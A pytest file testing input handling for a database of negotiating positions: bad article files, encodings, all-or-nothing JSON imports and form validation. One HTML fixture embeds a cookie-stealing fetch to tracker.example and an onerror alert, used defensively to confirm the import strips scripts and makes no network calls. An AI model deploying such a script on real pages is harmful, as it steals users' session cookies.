"""Bad input everywhere: article files, data imports and form values each get a clear
reason, and a refused import leaves the database exactly as it was."""

from __future__ import annotations

import copy
import json
import os
import random
import socket
import subprocess
import sys
import urllib.request
from pathlib import Path

import pytest
from sqlmodel import select

from db.errors import ImportDataError, ValidationError
from db.exchange import json_csv as exchange
from db.exchange.articles import MAX_ARTICLE_BYTES, decode_article, read_article_file
from db.model.inputs import PositionInput
from db.model.tables import StanceLevel
from db.model.validation import check_position
from db.opening import open_database
from db.reads import queries
from db.reads.record_inputs import position_input
from db.storage.database import Database

RUSSIAN = ("Переговоры о прекращении огня возобновились в Женеве.\n"
           "Делегации встретились на шесть часов; «прорыва нет», сказал посредник.\n")
ENGLISH = "Talks resumed in Geneva.\nBoth delegations met for six hours.\n"

# ---------------------------------------------------------------- article files


def test_binary_file_is_refused():
    rng = random.Random(1)
    noise = bytes(rng.randrange(256) for _ in range(4096))
    with pytest.raises(ValidationError, match="binary file"):
        decode_article(noise, "photo.jpg")
    with pytest.raises(ValidationError, match="binary file"):
        decode_article(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + noise, "chart.png")


@pytest.mark.parametrize("data", [b"", b"   \n\t  ", "\ufeff  \n".encode("utf-8"),
                                  "  ".encode("utf-16")])
def test_empty_file_is_refused(data: bytes):
    with pytest.raises(ValidationError, match="empty"):
        decode_article(data, "blank.txt")


def test_huge_file_is_refused_with_the_limit(tmp_path: Path):
    big = tmp_path / "dump.txt"
    big.write_bytes(b"a" * (MAX_ARTICLE_BYTES + 1))
    with pytest.raises(ValidationError) as info:
        read_article_file(big)
    assert "too large" in str(info.value) and "limit for one article is 5 MB" in str(info.value)
    with pytest.raises(ValidationError, match="limit for one article is 5 MB"):
        decode_article(b"a" * (MAX_ARTICLE_BYTES + 1))


@pytest.mark.parametrize("text", [RUSSIAN, ENGLISH])
@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be", "utf-8-sig", "utf-32"])
def test_unicode_encodings_with_and_without_bom_are_decoded(text: str, encoding: str):
    assert decode_article(text.encode(encoding)) == text


def test_cp1251_cyrillic_is_detected_and_decoded():
    assert decode_article(RUSSIAN.encode("cp1251"), "article.txt") == RUSSIAN


def test_html_with_script_and_remote_image_is_imported_as_text_and_fetches_nothing(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    page = tmp_path / "article.html"
    page.write_text(
        "<!doctype html><html><head><title>Geneva</title>"
        "<script>fetch('http://tracker.example/steal?c='+document.cookie)</script></head>"
        "<body><p>Talks resumed &amp; both sides met.</p>"
        "<img src='http://images.example/photo.jpg' onerror='alert(1)'>"
        "<p>A literal &amp;lt;tag&amp;gt; stays text.</p>"
        "<script src='http://cdn.example/x.js'></script><noscript>enable JS</noscript>"
        "</body></html>", encoding="utf-8")
    attempts: list[object] = []

    def refuse(*args: object, **kwargs: object) -> None:
        attempts.append(args)
        raise AssertionError("network access during article import")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)
    monkeypatch.setattr(urllib.request, "urlopen", refuse)
    text = read_article_file(page)
    assert attempts == []
    assert "Talks resumed & both sides met." in text
    assert "A literal &lt;tag&gt; stays text." in text
    for absent in ("fetch(", "tracker.example", "cookie", "images.example", "alert",
                   "cdn.example", "enable JS", "<"):
        assert absent not in text.replace("&lt;", ""), absent


def test_cli_import_of_a_binary_article_is_one_line(seeded_db: Database, tmp_path: Path):
    blob = tmp_path / "photo.txt"
    blob.write_bytes(bytes(range(256)) * 20)
    before = queries.counts(seeded_db)
    proc = subprocess.run([sys.executable, "-m", "desktop", "import-article", str(blob),
                           "--db", str(seeded_db.path)], capture_output=True, text=True,
                          timeout=60, env=dict(os.environ))
    assert proc.returncode == 1
    assert proc.stderr.count("\n") == 1 and "binary file" in proc.stderr
    assert queries.counts(seeded_db) == before

# ---------------------------------------------------------------- data import


@pytest.fixture
def export(seeded_db: Database) -> dict:
    return exchange.export_data(seeded_db)


def _refused(db: Database, payload: object, *words: str) -> None:
    before = exchange.export_json(db)
    with pytest.raises(ImportDataError) as info:
        if isinstance(payload, str | bytes):
            payload = exchange.parse_payload(payload)
        exchange.import_data(db, payload)  # type: ignore[arg-type]
    for word in words:
        assert word in str(info.value), str(info.value)
    assert exchange.export_json(db) == before


def test_malformed_json(seeded_db: Database):
    _refused(seeded_db, '{"format_version": 1, "parties": [', "not valid JSON")
    _refused(seeded_db, b"\xff\xfe\x00garbage", "not valid JSON")
    _refused(seeded_db, "[" * 100_000 + "]" * 100_000, "not a Parley export")
    _refused(seeded_db, "[1, 2, 3]", "expected an object")
    _refused(seeded_db, '{"format_version": 1, "sources": [{"id": 1, "text": "\\ud800"}]}',
             "invalid characters")


@pytest.mark.parametrize("version", [2, 0, "1", True, None, 1.5])
def test_wrong_format_version(seeded_db: Database, version: object):
    _refused(seeded_db, json.dumps({"format_version": version, "parties": []}),
             "format_version")


def test_unknown_references(seeded_db: Database, export: dict):
    for field, value, words in (("party", "atlantis", "unknown party “atlantis”"),
                                ("issue", "weather", "unknown issue “weather”"),
                                ("source", 999, "unknown source 999"),
                                ("level", 42, "has no level 42")):
        payload = copy.deepcopy(export)
        payload["positions"][0][field] = value
        _refused(seeded_db, payload, words)
    payload = copy.deepcopy(export)
    payload["parties"].append({"key": "splinter", "name": "Splinter group",
                               "parent": "nobody"})
    _refused(seeded_db, payload, "unknown parent “nobody”")


def test_duplicates(seeded_db: Database, export: dict):
    _refused(seeded_db, export, "duplicates a position already in the database")
    payload = copy.deepcopy(export)
    payload["sources"].append(dict(payload["sources"][0]))
    _refused(seeded_db, payload, "appears twice")


@pytest.mark.parametrize("field,value", [("quote_start", "12"), ("confidence", "high"),
                                         ("conditions", {"text": "x"}), ("notes", 7),
                                         ("quote_end", 2**80), ("party", ["a"])])
def test_wrong_types(seeded_db: Database, export: dict, field: str, value: object):
    payload = copy.deepcopy(export)
    payload["positions"][-1][field] = value
    _refused(seeded_db, payload)


def test_import_is_all_or_nothing(export: dict, tmp_path: Path):
    """83 good positions and one bad one at the end: none of them are imported."""
    empty_db = open_database(tmp_path / "empty.sqlite3", seed=False)
    bad = copy.deepcopy(export)
    bad["positions"][-1]["stated_on"] = "2025-02-30"
    _refused(empty_db, bad, "not a real date")
    assert queries.counts(empty_db) == {k: 0 for k in queries.counts(empty_db)}
    exchange.import_data(empty_db, export)  # the same file without the fault goes in whole
    assert queries.counts(empty_db)["positions"] == len(export["positions"])
    empty_db.close()

# ---------------------------------------------------------------- form validation


@pytest.fixture
def good(seeded_db: Database) -> PositionInput:
    return position_input(seeded_db, queries.position_rows(seeded_db)[0].id)


def _problems(db: Database, data: PositionInput) -> dict[str, str]:
    with db.session() as s:
        return check_position(s, data)


def test_the_good_record_has_no_problems(seeded_db: Database, good: PositionInput):
    assert _problems(seeded_db, good) == {}


@pytest.mark.parametrize("value,reason", [("1899-12-31", "outside 1900–2100"),
                                          ("2101-01-01", "outside 1900–2100"),
                                          ("2025-02-30", "not a real date"),
                                          ("", "A date is required")])
def test_out_of_range_dates(seeded_db: Database, good: PositionInput, value: str, reason: str):
    good.stated_on = value
    assert reason in _problems(seeded_db, good)["stated_on"]


def test_quote_not_in_source(seeded_db: Database, good: PositionInput):
    good.quote = "We will never negotiate about anything."
    assert _problems(seeded_db, good)["quote"] == "The quote does not appear in the source text"


def test_level_from_another_issue(seeded_db: Database, good: PositionInput):
    other = next(i for i in queries.issues(seeded_db) if i.id != good.issue_id)
    with seeded_db.session() as s:
        good.level_id = s.exec(select(StanceLevel).where(StanceLevel.issue_id == other.id)
                               ).first().id
    assert "belongs to" in _problems(seeded_db, good)["level_id"]


def test_very_long_text_and_control_characters(seeded_db: Database, good: PositionInput):
    good.attributed_to = "x" * 201
    good.notes = "n" * 20_001
    problems = _problems(seeded_db, good)
    assert "too long (201 characters; at most 200)" in problems["attributed_to"]
    assert "at most 20,000" in problems["notes"]
    good.attributed_to = "Lavrov\x07"
    good.notes = "fine\x00"
    problems = _problems(seeded_db, good)
    assert problems["attributed_to"] == "Attributed to contains control characters"
    assert problems["notes"] == "Notes contains control characters"


def test_ids_no_row_can_have(seeded_db: Database, good: PositionInput):
    good.party_id, good.issue_id, good.source_id = 2**80, "3", -1  # type: ignore[assignment]
    good.quote_start = "0"  # type: ignore[assignment]
    problems = _problems(seeded_db, good)
    assert problems["party_id"] == "Unknown party"
    assert problems["issue_id"] == "Unknown issue"
    assert problems["source_id"] == "Unknown source"
